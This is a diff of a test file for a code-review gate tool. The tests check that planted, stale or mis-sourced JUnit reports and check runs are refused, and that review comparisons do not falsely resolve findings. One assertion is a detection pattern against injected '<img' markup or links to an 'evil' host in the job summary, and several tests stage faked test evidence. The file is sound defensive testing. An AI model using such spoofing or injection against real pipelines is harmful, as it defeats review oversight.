@@ -3,18 +3,43 @@
 // (dist/review-gate.js, the runner's way; GitHub played by the local OpenAPI-checked server);
 // 207: a reviewer's stop lost to the order its part is folded in (dist/cli.js); 404: a JUnit report
 // whose tests were all skipped, or whose failures sit where the count did not look; 405: a
-// single-value option given twice, the first value quietly replaced by the last.
+// single-value option given twice, the first value quietly replaced by the last; 452: a JUnit report of
+// a working tree edited or restored after the run; 453: review compare calling a finding resolved while
+// the code it quoted stands at the later head; 465: a file proofgate itself treats as code that runs given only the rules every
+// file gets, so no security reviewer looked at it; 467: the same for the files of commands action-code.ts listed
+// apart (package.json, tox.ini, …) and names no list held (Drone's Jsonnet, Jenkinsfile.release, csh, *.mak);
+// 468: a #! line whose interpreter stands behind a wrapper (sudo, timeout, npm exec, nix-shell -i) or is csh or make;
+// 477: the pull request's tests run in the job that gates (tests-junit), or a same-name check run of another workflow vouching for them.
 import { describe, expect, it } from 'vitest';
-import { cpSync, mkdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, cpSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import { execFileSync } from 'node:child_process';
 import { join } from 'node:path';
 import { runActionAsync, type ActionRun, cliCase } from '../support/run.js';
-import { git, makeCartRepo, twoCommits } from '../support/repo.js';
+import { CART_V1, CART_V2, commitAll, emptyRepo, git, makeCartRepo, twoCommits } from '../support/repo.js';
 import { CART_FINDING, folderOf, reviewAgentFlags, writeCoverage, writeFindings } from '../support/review.js';
 import { seedCheckRun, useGitHubServer } from '../support/github-server.js';
 import { outsideCode, unescapeMarkdown } from '../support/markdown.js';
 import { ENV_CANARIES, expectNoCanary, gateOnPullRequest, sinks, writePart } from './support.js';
 import { FAKE_AGENT } from '../agent/support.js';
+import { builtinRules, projectFiles, ruleMatcher } from '../../src/review/rules.js';
+import { loadReviewerCatalog, selectReviewers } from '../../src/review/reviewers.js';
+import {
+  BAKE_NAMES,
+  CI_FILE_NAMES,
+  CI_FILE_STEMS,
+  CI_FOLDERS,
+  COMMAND_FILE_NAMES,
+  COMMAND_FILE_STEMS,
+  COMPOSE_STEMS,
+  CONTAINER_BUILD_STEMS,
+  HOOK_FOLDERS,
+  PIPELINE_STEMS,
+  RECIPE_STEMS,
+  SHELL_EXTENSIONS,
+  SHELL_NAMES,
+} from '../../src/review/runnable.js';
+import { isAutomationFile } from '../../src/review/action-code.js';
+import { BY_INTERPRETER } from '../../src/review/script-language.js';
 
 const ID = 'rv';
 const github = useGitHubServer();
@@ -29,11 +54,73 @@ async function sealed(args: string[] = []): Promise<string> {
 }
 
 const gate = (repo: string, inputs: Record<string, string> = {}) => gateOnPullRequest(github(), repo, ID, 'HEAD~1', inputs);
+/** The gate on a push to a branch: a job that may run the tests itself and vouch with their JUnit report (#477). */
+const gateOnPush = (repo: string, inputs: Record<string, string>) =>
+  gateOnPullRequest(github(), repo, ID, 'HEAD~1', inputs, { env: { GITHUB_EVENT_NAME: 'push' }, event: {} });
 
 /** The job summary as a reader sees it (Markdown escapes undone). */
 const read = (r: ActionRun) => unescapeMarkdown(r.summary);
 
 const PASSING_JUNIT = '<?xml version="1.0"?><testsuite name="all" tests="120" failures="0"><testcase name="ok"/></testsuite>\n';
+
+/** Commits src/cart.js as `edit` makes it (tracked files only: the review folders stay out). */
+function commitCart(repo: string, edit: (text: string) => string, message: string): void {
+  writeFileSync(join(repo, 'src/cart.js'), edit(readFileSync(join(repo, 'src/cart.js'), 'utf8')));
+  git(repo, 'commit', '-qam', message);
+}
+
+/** The fix of CART_FINDING: the loop stops at the last item, so its quoted line is gone. */
+const fixLoop = (text: string) => text.replace('i <= items.length', 'i < items.length');
+
+/** Evidence of a review of the cart that read src/cart.js to the end and found `findings`. */
+function reviewedCart(repo: string, id: string, findings: unknown[]): void {
+  writeFindings(repo, id, findings);
+  writeCoverage(repo, id, [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+}
+
+/** Writes each file of `files` in `repo` (null removes it; a mode sets it). */
+function put(repo: string, files: Record<string, string | null>, mode = 0o644): void {
+  for (const [path, text] of Object.entries(files)) {
+    if (text === null) rmSync(join(repo, path));
+    else {
+      mkdirSync(join(repo, path, '..'), { recursive: true });
+      writeFileSync(join(repo, path), text);
+      chmodSync(join(repo, path), mode);
+    }
+  }
+}
+
+/**
+ * A scope sealed by the bundle over what `edit` changes after a commit of `base` (committed, or the
+ * working tree with `workspace`): each file's rules and the reviewers dispatched.
+ */
+async function sealChange(
+  base: Record<string, string>,
+  edit: (repo: string) => void,
+  { effort = 'low', workspace = false }: { effort?: string; workspace?: boolean } = {},
+) {
+  const repo = twoCommits(base, {});
+  edit(repo);
+  if (!workspace) {
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-q', '-m', 'the change');
+  }
+  const where = workspace ? ['--base', 'HEAD', '--workspace'] : ['--base', 'HEAD~1'];
+  const r = await cliCase(repo, ['review', 'scope', ID, ...where, '--effort', effort]);
+  expect(r.code, r.stderr).toBe(0);
+  const scope = JSON.parse(readFileSync(join(folderOf(repo, ID), 'scope.json'), 'utf8')) as {
+    files: { path: string; rules: string[] }[];
+    reviewers: { id: string }[];
+  };
+  return { repo, rules: Object.fromEntries(scope.files.map((f) => [f.path, f.rules])), reviewers: scope.reviewers.map((x) => x.id) };
+}
+
+/** `review compare LATER --since EARLIER --json`: its groups. */
+async function compareSince(repo: string, later: string, earlier: string) {
+  const r = await cliCase(repo, ['review', 'compare', later, '--since', earlier, '--json']);
+  expect(r.code, r.stderr).toBe(0);
+  return JSON.parse(r.stdout) as Record<string, { id: string; reason?: string }[]>;
+}
 
 describe('#120 a test report planted by the change', () => {
   it('#120 a passing junit.xml committed in the pull request does not vouch for the tests: incomplete, the report named', async () => {
@@ -42,7 +129,7 @@ describe('#120 a test report planted by the change', () => {
     // The change itself carries the "report": staged here as a commit would carry it.
     writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
     git(repo, 'add', 'junit.xml');
-    const r = await gate(repo, { 'tests-junit': 'junit.xml' });
+    const r = await gateOnPush(repo, { 'tests-junit': 'junit.xml' });
     expect(r.outputs.verdict).toBe('incomplete');
     expect(r.code).not.toBe(0);
     expect(read(r)).toContain('the tests did not pass at the head: JUnit report junit.xml: it is committed in the repository');
@@ -56,11 +143,11 @@ describe('#120 a test report planted by the change', () => {
     const nested =
       '<?xml version="1.0"?><testsuites tests="2" failures="0"><testsuite name="outer"><testsuite name="inner"><testcase name="a"><failure/></testcase></testsuite><testcase name="b"/></testsuite></testsuites>';
     writeFileSync(join(repo, 'nested.xml'), nested);
-    const hidden = await gate(repo, { 'tests-junit': 'nested.xml' });
+    const hidden = await gateOnPush(repo, { 'tests-junit': 'nested.xml' });
     expect(hidden.outputs.verdict).toBe('incomplete');
     expect(read(hidden)).toMatch(/2 test\(s\), 1 failed/);
     writeFileSync(join(repo, 'cut.xml'), PASSING_JUNIT.slice(0, 60));
-    const cut = await gate(repo, { 'tests-junit': 'cut.xml' });
+    const cut = await gateOnPush(repo, { 'tests-junit': 'cut.xml' });
     expect(cut.outputs.verdict).toBe('incomplete');
     expect(read(cut)).toContain('is not well-formed XML');
   });
@@ -91,6 +178,140 @@ describe('#426 a test report left from a run of other code', () => {
     utimesSync(join(repo, 'junit.xml'), now, now);
     const fresh = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
     expect(fresh.code, fresh.stdout).toBe(0);
+  });
+});
+
+describe('#452 a test report of a working tree other than the one under review', () => {
+  // A file's times move in clock ticks (up to 10 ms): steps a tick apart are ordered as a runner's are.
+  const tick = () => new Promise((done) => setTimeout(done, 50));
+  const staleBy = (path: string) =>
+    new RegExp(
+      `JUnit report \\S+: it was written \\S+, before ${path.replace(/[.]/g, '\\.')} last changed \\(\\S+: a write, a restore, a rename, its owner or mode\\): the tests ran on other code; run them after every step that changes the checkout`,
+    );
+  const stale = staleBy('src/cart.js');
+
+  it('#452 a passing junit.xml of a local fix, the file restored after the run (git checkout --, git stash): refused, the file named; evidence written after the run is no change', async () => {
+    const repo = await sealed();
+    for (const restore of [
+      ['checkout', '--', 'src/cart.js'],
+      ['stash', '-q'],
+    ]) {
+      writeFileSync(join(repo, 'src/cart.js'), CART_V1); // the fix the tests ran on, never committed
+      writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+      await tick();
+      git(repo, ...restore);
+      expect(git(repo, 'status', '--porcelain', '--untracked-files=no'), restore[0]).toBe('');
+      writeFindings(repo, ID, []);
+      const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+      expect(r.code, r.stdout).toBe(2);
+      expect(r.stdout).toMatch(stale);
+    }
+    // The tests run again on the head; the review folder written after them is no selected file.
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    await tick();
+    writeFindings(repo, ID, []);
+    writeCoverage(repo, ID, [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+    const fresh = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+    expect(fresh.code, fresh.stdout).toBe(0);
+  });
+
+  it('#452 a local fix in a tracked file the change leaves alone, restored after the run: refused, that file named', async () => {
+    const repo = await sealed();
+    writeFileSync(join(repo, 'package.json'), '{ "name": "cart", "type": "module", "scripts": { "test": "true" } }\n');
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    await tick();
+    git(repo, 'checkout', '--', 'package.json');
+    writeFindings(repo, ID, []);
+    const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toMatch(staleBy('package.json'));
+  });
+
+  it('#452 a report dated ahead (touch -d, a clock that ran fast) vouches for no later write: it counts as written when its ctime says', async () => {
+    const repo = await sealed();
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    const ahead = new Date(Date.now() + 3 * 3600_000);
+    utimesSync(join(repo, 'junit.xml'), ahead, ahead);
+    await tick();
+    writeFileSync(join(repo, 'src/cart.js'), CART_V2);
+    writeFindings(repo, ID, []);
+    const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toMatch(stale);
+  });
+
+  it('#452 a file put back after the run with its old mtime (mv of a saved copy, cp -p), or given another owner or mode: refused by its ctime', async () => {
+    const repo = await sealed();
+    for (const restore of [
+      () => renameSync(join(repo, 'src/cart.saved'), join(repo, 'src/cart.js')),
+      () => execFileSync('cp', ['-p', join(repo, 'src/cart.saved'), join(repo, 'src/cart.js')]),
+      () => execFileSync('chmod', ['u+rw', join(repo, 'src/cart.js')]),
+    ]) {
+      execFileSync('cp', ['-p', join(repo, 'src/cart.js'), join(repo, 'src/cart.saved')]);
+      writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+      await tick();
+      restore();
+      rmSync(join(repo, 'src/cart.saved'), { force: true });
+      writeFindings(repo, ID, []);
+      const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+      expect(r.code, r.stdout).toBe(2);
+      expect(r.stdout).toMatch(stale);
+    }
+  });
+
+  it('#452 a file of a checked-out submodule restored after the run: refused, that file named', async () => {
+    const lib = makeCartRepo();
+    const repo = makeCartRepo();
+    git(repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'sub');
+    git(repo, 'commit', '-q', '-m', 'a submodule');
+    expect((await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1'])).code).toBe(0);
+    writeCoverage(repo, ID, [], { run: { stop: 'completed' } });
+    writeFileSync(join(repo, 'sub/src/cart.js'), CART_V1);
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    await tick();
+    git(join(repo, 'sub'), 'checkout', '--', 'src/cart.js');
+    writeFindings(repo, ID, []);
+    const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+    expect(r.stdout).toMatch(staleBy('sub/src/cart.js'));
+  });
+
+  it('#452 a tracked file whose name is not UTF-8, restored after the run, is compared by its bytes: refused', async () => {
+    const repo = makeCartRepo();
+    const name = Buffer.concat([Buffer.from(`${repo}/caf`), Buffer.from([0xe9]), Buffer.from('.js')]);
+    writeFileSync(name, 'export const x = 1;\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-q', '-m', 'a name in Latin-1, before the change');
+    writeFileSync(join(repo, 'src/cart.js'), CART_V1);
+    git(repo, 'commit', '-q', '-a', '-m', 'the change');
+    expect((await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1'])).code).toBe(0);
+    writeCoverage(repo, ID, [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+    writeFileSync(name, 'export const x = 2;\n');
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    await tick();
+    writeFileSync(name, 'export const x = 1;\n');
+    writeFindings(repo, ID, []);
+    const r = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml']);
+    expect(r.stdout).toMatch(staleBy('caf\uFFFD.js'));
+  });
+
+  it('#452 a working-tree review: a report written before a selected file was edited is refused; a fresh one names the working tree, not HEAD', async () => {
+    const repo = makeCartRepo();
+    mkdirSync(join(repo, '_bmad-output/review'), { recursive: true });
+    const report = '_bmad-output/review/junit.xml'; // the review folder: no part of the change
+    writeFileSync(join(repo, report), PASSING_JUNIT);
+    await tick();
+    writeFileSync(join(repo, 'src/cart.js'), CART_V1.replace('sum + item.price', 'sum - item.price'));
+    expect((await cliCase(repo, ['review', 'scope', 'w', '--workspace'])).code).toBe(0);
+    writeFindings(repo, 'w', []);
+    writeCoverage(repo, 'w', [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+    const r = await cliCase(repo, ['review', 'gate', 'w', '--tests-junit', report]);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toMatch(stale);
+    await tick();
+    writeFileSync(join(repo, report), PASSING_JUNIT);
+    const fresh = await cliCase(repo, ['review', 'gate', 'w', '--tests-junit', report]);
+    expect(fresh.code, fresh.stdout).toBe(0);
+    expect(fresh.stdout).toContain(`tests: JUnit report ${report} at the working tree: 1 test(s), 0 failed, 0 error(s), 0 skipped\n`);
   });
 });
 
@@ -218,6 +439,145 @@ describe('#121 checks that do not vouch for the head', () => {
     const markup = await gate(repo, { 'tests-check': 'ci2' });
     expect(markup.outputs.verdict).toBe('clean');
     expect(outsideCode(markup.summary)).not.toMatch(/<img|\]\(https:\/\/evil/);
+  });
+});
+
+describe('#477 the job that gates runs no code of the pull request', () => {
+  it("#477 tests-junit on a pull request's events (its own, pull_request_target, a comment on it, a merge queue group, a workflow_run of its run) is refused before any work, naming tests-check; on a push the job's own report still vouches", async () => {
+    const repo = await sealed();
+    writeFindings(repo, ID, []);
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    const [head, base] = git(repo, 'rev-parse', 'HEAD', 'HEAD~1').trim().split('\n') as [string, string];
+    const events: [string, unknown][] = [
+      ['pull_request', undefined],
+      ['pull_request_target', undefined],
+      ['issue_comment', { issue: { number: 7, pull_request: {} }, comment: { author_association: 'OWNER' } }],
+      ['merge_group', { merge_group: { base_sha: base, head_sha: head } }],
+      ['workflow_run', { workflow_run: { event: 'pull_request', head_sha: head } }],
+    ];
+    for (const [name, event] of events) {
+      const r = await gateOnPullRequest(
+        github(),
+        repo,
+        ID,
+        'HEAD~1',
+        { 'tests-junit': 'junit.xml' },
+        { env: { GITHUB_EVENT_NAME: name }, ...(event ? { event } : {}) },
+      );
+      expect(r.code, name).toBe(1);
+      expect(r.outputs, name).toMatchObject({ 'exit-code': '3' });
+      expect(r.outputs.verdict, name).toBeUndefined();
+      const errors = r.commands.filter((c) => c.startsWith('::error::'));
+      expect(errors, name).toHaveLength(1);
+      expect(errors[0], name).toMatch(
+        /^::error::input `tests-junit` on this [^:]+: the tests are the pull request's code.*run the tests in a job of their own.*`tests-check: <that job's name>`/,
+      );
+      expect(read(r), name).toContain("the tests are the pull request's code");
+    }
+    expect(
+      github().requests.filter((q) => q.method !== 'GET'),
+      'no API write, no check run',
+    ).toEqual([]);
+    const push = await gateOnPush(repo, { 'tests-junit': 'junit.xml' });
+    expect(push.outputs.verdict, push.summary).toBe('clean');
+    expect(read(push)).toContain(`JUnit report junit.xml at ${head.slice(0, 12)}`);
+  });
+
+  it('#486 tests-junit on a workflow_run of any run but a push, a dispatch, a schedule or a release (a merge queue, a comment, a review, a chain, one naming a pull request) is refused; of a push it vouches', async () => {
+    const repo = await sealed();
+    writeFindings(repo, ID, []);
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    const head = git(repo, 'rev-parse', 'HEAD').trim();
+    const after = (run: Record<string, unknown>) =>
+      gateOnPullRequest(
+        github(),
+        repo,
+        ID,
+        'HEAD~1',
+        { 'tests-junit': 'junit.xml' },
+        { env: { GITHUB_EVENT_NAME: 'workflow_run' }, event: { workflow_run: { head_sha: head, ...run } } },
+      );
+    for (const run of [
+      { event: 'merge_group' },
+      { event: 'issue_comment' },
+      { event: 'pull_request_review' },
+      { event: 'workflow_run' },
+      {},
+      { event: 'push', pull_requests: [{ number: 7 }] },
+    ]) {
+      const r = await after(run);
+      expect(r.outputs, JSON.stringify(run)).toMatchObject({ 'exit-code': '3' });
+      expect(r.commands.filter((c) => c.startsWith('::error::'))[0], JSON.stringify(run)).toMatch(
+        /^::error::input `tests-junit` on this workflow_run of a [^:]+: the tests are the pull request's code/,
+      );
+    }
+    // Of a push, the input is taken: the gate reads the report (whatever it then finds of it).
+    const pushed = await after({ event: 'push', pull_requests: [] });
+    expect(pushed.outputs.verdict).toBeDefined();
+    expect(pushed.commands.filter((c) => c.includes("the tests are the pull request's code"))).toEqual([]);
+  });
+
+  it("#495 tests-junit on any event but a push, dispatch, schedule or release, or on one whose payload names a pull request (a slash command's repository_dispatch, a preview's deployment_status, a check_suite): refused; so is the CLI gate's --tests-junit in such a workflow step", async () => {
+    const repo = await sealed();
+    writeFindings(repo, ID, []);
+    writeFileSync(join(repo, 'junit.xml'), PASSING_JUNIT);
+    const head = git(repo, 'rev-parse', 'HEAD').trim();
+    const events: [string, unknown][] = [
+      ['repository_dispatch', { action: 'ok-to-test-command', client_payload: { pull_request: { number: 7, head: { sha: head } } } }],
+      ['deployment_status', { deployment: { sha: head }, deployment_status: { state: 'success' } }],
+      ['check_suite', { check_suite: { head_sha: head, pull_requests: [{ number: 7 }] } }],
+      ['push', { after: head, client_payload: { pull_request: { number: 7 } } }],
+    ];
+    for (const [name, event] of events) {
+      const r = await gateOnPullRequest(
+        github(),
+        repo,
+        ID,
+        'HEAD~1',
+        { 'tests-junit': 'junit.xml' },
+        { env: { GITHUB_EVENT_NAME: name }, event },
+      );
+      expect(r.outputs, name).toMatchObject({ 'exit-code': '3' });
+      expect(r.commands.filter((c) => c.startsWith('::error::'))[0], name).toMatch(
+        /^::error::input `tests-junit` on this \w+ run[^:]*: the tests are the pull request's code/,
+      );
+    }
+    const eventFile = join(repo, '..', 'event.json');
+    writeFileSync(eventFile, JSON.stringify({ pull_request: { number: 7, head: { sha: head } } }));
+    const step = { GITHUB_ACTIONS: 'true', GITHUB_EVENT_PATH: eventFile };
+    const cli = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml'], { ...step, GITHUB_EVENT_NAME: 'pull_request' });
+    expect(cli.code, cli.stdout).toBe(3);
+    expect(cli.stderr).toMatch(/`--tests-junit` on this pull_request run of pull request #7: the tests are the pull request's code/);
+    writeFileSync(eventFile, JSON.stringify({ after: head }));
+    const pushed = await cliCase(repo, ['review', 'gate', ID, '--tests-junit', 'junit.xml'], { ...step, GITHUB_EVENT_NAME: 'push' });
+    expect(pushed.stderr).not.toContain("the tests are the pull request's code");
+  });
+
+  it("#477 tests-check: the check run of this workflow run's job decides, whatever newer runs of the name from another run say; one made through the API naming this run in its details_url does not", async () => {
+    const repo = await sealed();
+    writeFindings(repo, ID, []);
+    const head = git(repo, 'rev-parse', 'HEAD').trim();
+    const job = (run: number, id: number) => `https://github.com/acme/shop/actions/runs/${run}/job/${id}`;
+    const here = { env: { GITHUB_SERVER_URL: 'https://github.com', GITHUB_RUN_ID: '4242' } };
+    const testsCheck = () => gateOnPullRequest(github(), repo, ID, 'HEAD~1', { 'tests-check': 'test' }, here);
+    seedCheckRun(github(), 100, 'test', head, 'completed', 'failure', job(4000, 100));
+    seedCheckRun(github(), 101, 'test', head, 'completed', 'failure', job(4242, 101));
+    // A workflow the pull request added, its job named the same, succeeding later.
+    seedCheckRun(github(), 102, 'test', head, 'completed', 'success', job(4243, 102));
+    // A check run made through the API: GitHub gives it a page of its own, whatever details_url it sets.
+    seedCheckRun(github(), 103, 'test', head, 'completed', 'success', 'https://github.com/acme/shop/runs/103');
+    github().checkRuns.at(-1)!.details_url = job(4242, 103);
+    const failed = await testsCheck();
+    expect(failed.outputs.verdict).toBe('incomplete');
+    expect(read(failed)).toContain(
+      `the tests did not pass at the head: check run test of this workflow run at ${head.slice(0, 12)}: failure`,
+    );
+    // The converse: this run's job re-run and passed; failures of the name elsewhere, older and newer, do not hold it back.
+    seedCheckRun(github(), 104, 'test', head, 'completed', 'success', job(4242, 104));
+    seedCheckRun(github(), 105, 'test', head, 'completed', 'failure', job(4244, 105));
+    const passed = await testsCheck();
+    expect(passed.outputs.verdict, passed.summary).toBe('clean');
+    expect(read(passed)).toContain(`check run test of this workflow run at ${head.slice(0, 12)}: success`);
   });
 });
 
@@ -553,12 +913,14 @@ describe('#207 a reviewer that stopped before the end, whatever order the parts 
 
   it('#418 review compare: a finding gone only because the reviewer that made it did not return is not reviewed, never resolved', async () => {
     const repo = makeCartRepo();
-    for (const id of ['r1', 'r2', 'r3'])
+    for (const id of ['r1', 'r2'])
       expect((await cliCase(repo, ['review', 'scope', id, '--base', 'HEAD~1', '--effort', 'medium'])).code).toBe(0);
     writeFindings(repo, 'r1', [{ ...CART_FINDING, reviewer: 'edge-case' }]);
     const none = ['--report', '[]'];
-    // r2: edge-case killed, the others read src/cart.js and report nothing; r3: every reviewer returns.
+    // r2: edge-case killed, the others read src/cart.js and report nothing; r3, of the fix: every reviewer returns.
     expect((await cliCase(repo, ['review', 'run', 'r2', ...agent('--kill-reviewer', 'edge-case', ...none)])).code).toBe(2);
+    commitCart(repo, fixLoop, 'fix');
+    expect((await cliCase(repo, ['review', 'scope', 'r3', '--base', 'HEAD~1', '--effort', 'medium'])).code).toBe(0);
     expect((await cliCase(repo, ['review', 'run', 'r3', ...agent(...none)])).code).toBe(0);
     const compare = async (later: string) => {
       const r = await cliCase(repo, ['review', 'compare', later, '--since', 'r1', '--json']);
@@ -577,11 +939,13 @@ describe('#207 a reviewer that stopped before the end, whatever order the parts 
 
   it('#429 review compare, --dispatch one: a finding gone only from a later review that stopped before the end is not reviewed, never resolved', async () => {
     const repo = makeCartRepo();
-    for (const id of ['e1', 'e2', 'e3'])
+    for (const id of ['e1', 'e2'])
       expect((await cliCase(repo, ['review', 'scope', id, '--base', 'HEAD~1', '--dispatch', 'one'])).code).toBe(0);
     writeFindings(repo, 'e1', [CART_FINDING]);
     const none = ['--report', '[]'];
     expect((await cliCase(repo, ['review', 'run', 'e2', ...agent(...none, '--stop', 'budget')])).code).toBe(2);
+    commitCart(repo, fixLoop, 'fix');
+    expect((await cliCase(repo, ['review', 'scope', 'e3', '--base', 'HEAD~1', '--dispatch', 'one'])).code).toBe(0);
     expect((await cliCase(repo, ['review', 'run', 'e3', ...agent(...none)])).code).toBe(0);
     const compare = async (later: string) => {
       const r = await cliCase(repo, ['review', 'compare', later, '--since', 'e1', '--json']);
@@ -608,6 +972,117 @@ describe('#207 a reviewer that stopped before the end, whatever order the parts 
     const read = await compare('e3');
     expect(read.resolved!.map((f) => f.id)).toEqual([CART_FINDING.id]);
     expect(read.notReviewed).toEqual([]);
+  });
+
+  it('#453 review compare: a later review of another base that read the file, its change beside the quoted line, resolves nothing while the quote stands at its head', async () => {
+    const repo = makeCartRepo();
+    commitCart(repo, (text) => text.replace('function count', 'function size'), 'rename');
+    const seal = async (id: string, base: string) =>
+      expect((await cliCase(repo, ['review', 'scope', id, '--base', base, '--dispatch', 'one', '--effort', 'low'])).code).toBe(0);
+    const reviewed = (id: string, findings: unknown[]) => reviewedCart(repo, id, findings);
+    const compare = (later: string) => compareSince(repo, later, 'a');
+    await seal('a', 'HEAD~2');
+    // F2 quotes what the earlier head never held: its absence later says nothing of a fix.
+    reviewed('a', [CART_FINDING, { ...CART_FINDING, id: 'F2', existing_code: 'sum += items[i].cost;' }]);
+    await seal('b', 'HEAD~1');
+    reviewed('b', []);
+    const unchanged = await compare('b');
+    expect(unchanged.resolved).toEqual([]);
+    expect(unchanged.notReviewed).toEqual([
+      expect.objectContaining({ id: 'F1', reason: 'its quote is still at the later head (line 3): the code it found is unchanged' }),
+      expect.objectContaining({
+        id: 'F2',
+        reason:
+          'its quote is not at the earlier head either (no whole consecutive lines of the head version match the quote): that its code is gone cannot be told',
+      }),
+    ]);
+    commitCart(repo, fixLoop, 'fix');
+    await seal('c', 'HEAD~1');
+    reviewed('c', []);
+    const fixed = await compare('c');
+    expect(fixed.resolved!.map((f) => f.id)).toEqual(['F1']);
+    expect(fixed.notReviewed!.map((f) => f.id)).toEqual(['F2']);
+  });
+
+  it('#463 review compare: a later review of a sibling branch, or of the reviewed commit rewritten, that lacks the quoted code resolves nothing', async () => {
+    const repo = makeCartRepo();
+    const review = async (id: string, findings: unknown[]) => {
+      expect((await cliCase(repo, ['review', 'scope', id, '--base', 'HEAD~1', '--dispatch', 'one', '--effort', 'low'])).code).toBe(0);
+      reviewedCart(repo, id, findings);
+    };
+    const compare = (later: string) => compareSince(repo, later, 'earlier');
+    await review('earlier', [CART_FINDING]);
+    const earlier = git(repo, 'rev-parse', 'HEAD').trim();
+    // The loop written another way where the reviewed commit is not: the quote is gone, never fixed where it stands.
+    const rewrite = () =>
+      writeFileSync(
+        join(repo, 'src/cart.js'),
+        CART_V2.replace(
+          'let sum = 0;\n  for (let i = 0; i <= items.length; i++) sum += items[i].price;',
+          'let sum = 0;\n  for (const item of items) sum += item.price;',
+        ),
+      );
+    const elsewhere: [string, () => void][] = [
+      ['sibling', () => (git(repo, 'checkout', '-qb', 'other', `${earlier}~1`), rewrite(), git(repo, 'commit', '-qam', 'other work'))],
+      [
+        'amended',
+        () => (git(repo, 'checkout', '-q', '--detach', earlier), rewrite(), git(repo, 'commit', '-q', '--amend', '-am', 'rewritten')),
+      ],
+    ];
+    for (const [id, move] of elsewhere) {
+      move();
+      await review(id, []);
+      const head = git(repo, 'rev-parse', 'HEAD').trim();
+      const gone = await compare(id);
+      expect(gone.resolved, id).toEqual([]);
+      expect(gone.notReviewed, id).toEqual([
+        expect.objectContaining({
+          id: 'F1',
+          reason: `the later review's head ${head.slice(0, 12)} and the earlier review's head ${earlier.slice(0, 12)}: the later one does not hold the earlier one (another branch, or a history rewritten since), so the code gone there was not fixed`,
+        }),
+      ]);
+    }
+    // The same edit on top of the reviewed commit is a fix.
+    git(repo, 'checkout', '-q', '--detach', earlier);
+    rewrite();
+    git(repo, 'commit', '-qam', 'fix');
+    await review('fixed', []);
+    expect((await compare('fixed')).resolved!.map((f) => f.id)).toEqual(['F1']);
+  });
+
+  it('#472 review compare: an earlier review of the working tree resolves nothing (no history holds its edits); a shallow clone says it cannot tell', async () => {
+    const repo = makeCartRepo();
+    const review = async (id: string, findings: unknown[], ...flags: string[]) => {
+      const r = await cliCase(repo, ['review', 'scope', id, '--dispatch', 'one', '--effort', 'low', ...flags]);
+      expect(r.code, r.stderr).toBe(0);
+      reviewedCart(repo, id, findings);
+    };
+    const fix = (message: string) => {
+      writeFileSync(join(repo, 'src/cart.js'), CART_V2.replace('i <= items.length', 'i < items.length'));
+      git(repo, 'commit', '-qam', message);
+    };
+    const earlier = git(repo, 'rev-parse', 'HEAD').trim();
+    await review('tree', [CART_FINDING], '--base', 'HEAD~1', '--workspace');
+    await review('commit', [CART_FINDING], '--base', 'HEAD~1');
+    fix('fix');
+    await review('fixed', [], '--base', 'HEAD~2');
+    const fromTree = await compareSince(repo, 'fixed', 'tree');
+    expect(fromTree.resolved).toEqual([]);
+    expect(fromTree.notReviewed).toEqual([
+      expect.objectContaining({
+        id: 'F1',
+        reason: `the earlier review was of the working tree (edits on ${earlier.slice(0, 12)} never committed), which no history shows the later review holds, so the code gone there was not fixed; compare reviews of commits`,
+      }),
+    ]);
+    expect((await compareSince(repo, 'fixed', 'commit')).resolved!.map((f) => f.id)).toEqual(['F1']);
+    // The same reviews in a clone of the fix alone (and the reviewed commit fetched on its own): git cannot see that one holds the other.
+    const shallow = join(repo, '..', 'shallow');
+    execFileSync('git', ['clone', '-q', '--depth', '1', `file://${repo}`, shallow]);
+    execFileSync('git', ['fetch', '-q', '--depth', '1', 'origin', earlier], { cwd: shallow });
+    cpSync(join(repo, '_bmad-output'), join(shallow, '_bmad-output'), { recursive: true });
+    const cut = await compareSince(shallow, 'fixed', 'commit');
+    expect(cut.resolved).toEqual([]);
+    expect(cut.notReviewed![0]!.reason).toMatch(/: the clone is shallow: check out with `fetch-depth: 0`/);
   });
 
   it('#207 a merge of parts naming a reviewer into a scope of one run for all is refused (no ledger would judge their stop)', async () => {
@@ -841,5 +1316,383 @@ describe('#439 a rule is given by the path whatever its case: the reviewers it d
     expect(rules.stdout).toMatch(new RegExp(`^${rule} `, 'm'));
     const reviewers = await cliCase(process.cwd(), ['review', 'reviewers', path, '--effort', 'low']);
